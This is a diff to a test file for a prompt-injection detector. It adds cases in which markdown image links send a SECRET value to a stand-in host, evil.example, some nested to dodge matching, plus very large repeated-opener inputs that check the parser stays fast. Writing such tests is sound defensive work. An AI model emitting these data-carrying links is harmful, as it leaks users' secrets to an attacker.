@@ -145,6 +145,12 @@ describe('prompt_injection: exfiltration_link', () => {
     expect(signals(text)).toEqual(['exfiltration_link']);
     expect(run(text).matched).toBe(true);
   });
+  it('a link inside the URL of a link before it: the data of either is found', () => {
+    expect(signals('![a](https://cdn.example/![b](https://evil.example/x?q=SECRET)')).toEqual(['exfiltration_link']);
+    expect(signals('![a](https://evil.example/x?q=SECRET![b](https://cdn.example/logo.png)')).toEqual(['exfiltration_link']);
+    expect(signals('![a](https://cdn.example/a.png)![b](https://cdn.example/b.png) <img src="https://cdn.example/c.png">')).toEqual([]);
+    expect(signals(`![a](https://evil.example/${'x'.repeat(5000)})`)).toEqual(['exfiltration_link']);
+  });
   it('not: an image without data, a plain link with a query', () => {
     expect(signals('![logo](https://cdn.example.com/img/logo.png)')).toEqual([]);
     expect(signals('[docs](https://example.com/search?q=guardctl)')).toEqual([]);
@@ -224,6 +230,12 @@ describe('prompt_injection: hostile input stays linear and bounded', () => {
     ['markers', '<|system|'.repeat(big / 9)],
     ['tag characters', tags('a').repeat(big / 2)],
     ['10 MB of prose', 'The quick brown fox jumps over the lazy dog. '.repeat(10_000_000 / 45)],
+    // Link openers with no space between them: each opener read its URL, or searched for the
+    // next close, again (5 MB: over a minute and a half here; now as long as the prose).
+    ['5 MB of image openers', '![a]('.repeat(1_000_000)],
+    ['image openers of links to a scheme', '![a](http://'.repeat(1_000_000 / 12)],
+    ['3,000,000 image openers and one close', `${'!['.repeat(3_000_000)}](https://x.example/?a=b`],
+    ['1,500,000 img tags and one src', `${'<img'.repeat(1_500_000)} src=https://x.example/?a=b`],
   ])('%s', (_name, text) => {
     expect(typeof run(text).matched).toBe('boolean');
   });
